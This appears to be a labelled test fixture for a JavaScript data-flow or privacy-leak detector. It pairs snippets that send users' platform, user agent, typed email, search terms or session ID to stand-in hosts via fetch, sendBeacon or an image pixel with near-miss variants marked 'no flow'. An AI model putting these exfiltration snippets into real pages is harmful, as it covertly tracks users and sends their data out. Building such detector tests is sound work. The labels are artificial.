//# memoised-reader
// flow: device > mem.cl12.example via fetch
const memo = (fn) => {
  let done = false, kept;
  return () => { if (!done) { kept = fn(); done = true; } return kept; };
};
const platform = memo(() => navigator.platform);
fetch('https://mem.cl12.example/p?os=' + platform());

//# near-memoised-neighbour
// no flow
// why: the reader of the platform is another instance; only the build number is sent
const memo = (fn) => {
  let done = false, kept;
  return () => { if (!done) { kept = fn(); done = true; } return kept; };
};
const platform = memo(() => navigator.platform);
const build = memo(() => '2024.11');
document.querySelector('#os').textContent = platform();
fetch('https://nmn.cl12.example/p?b=' + build());

//# compose-by-reduce-right
// flow: email > crr.cl12.example via beacon
const compose = (...fns) => (x) => fns.reduceRight((acc, fn) => fn(acc), x);
const trim = (s) => s.trim();
const lower = (s) => s.toLowerCase();
const wrap = (s) => ({ id: s });
const prepare = compose(JSON.stringify, wrap, lower, trim);
document.querySelector('input[type=email]').addEventListener('blur', function () {
  navigator.sendBeacon('https://crr.cl12.example/v', prepare(this.value));
});

//# near-compose-ends-in-boolean
// no flow
// why: the last function tells only whether something is there
const compose = (...fns) => (x) => fns.reduceRight((acc, fn) => fn(acc), x);
const filled = compose(Boolean, (s) => s.trim());
document.querySelector('input[type=email]').addEventListener('blur', function () {
  navigator.sendBeacon('https://ceb.cl12.example/v', 'filled=' + filled(this.value));
});

//# throttle-with-saved-arguments
// flow: search > thr.cl12.example via fetch
function throttle(fn, wait) {
  var last = 0, timer = null, saved;
  return function () {
    var self = this, now = Date.now();
    saved = arguments;
    if (now - last >= wait) {
      last = now;
      fn.apply(self, saved);
    } else if (!timer) {
      timer = setTimeout(function () { timer = null; last = Date.now(); fn.apply(self, saved); }, wait);
    }
  };
}
var suggest = throttle(function (term) { fetch('https://thr.cl12.example/s?t=' + encodeURIComponent(term)); }, 250);
document.querySelector('input[type=search]').oninput = function (ev) { suggest(ev.target.value); };

//# near-throttle-drops-the-argument
// no flow
// why: the helper calls without any argument
function throttle(fn, wait) {
  var timer;
  return function () { if (!timer) timer = setTimeout(function () { timer = null; fn(); }, wait); };
}
var ping = throttle(function (term) { navigator.sendBeacon('https://tda.cl12.example/alive', term || 'alive'); }, 1000);
document.querySelector('input[type=search]').oninput = function (ev) { ping(ev.target.value); };

//# module-of-closures-with-getter
// flow: identifier > psm.cl12.example via image
const session = (() => {
  let id = null;
  return {
    start() { id = localStorage.getItem('sid') || crypto.randomUUID(); },
    get id() { return id; },
  };
})();
session.start();
new Image().src = `https://psm.cl12.example/px.gif?s=${session.id}`;

//# near-two-boxes
// no flow
// why: the draft lies in another box than the one that is emptied into the request
function makeBox() {
  let held;
  return { put: (v) => { held = v; }, take: () => held };
}
const draft = makeBox(), status = makeBox();
draft.put(document.querySelector('textarea[name=message]').value);
status.put('ready');
navigator.sendBeacon('https://ntb.cl12.example/t', status.take());

//# results-reduced-from-readers
// flow: device > rrr.cl12.example via fetch
const probes = { ua: () => navigator.userAgent, zone: () => new Date().getTimezoneOffset(), v: () => 3 };
const result = Object.keys(probes).reduce((acc, k) => ({ ...acc, [k]: probes[k]() }), {});
fetch('https://rrr.cl12.example/fp', { method: 'POST', body: JSON.stringify(result) });

//# near-readers-only-counted
// no flow
const probes = { ua: () => navigator.userAgent, zone: () => new Date().getTimezoneOffset() };
const n = Object.entries(probes).reduce((sum, [, read]) => sum + (read() ? 1 : 0), 0);
fetch('https://nrc.cl12.example/fp?n=' + n);
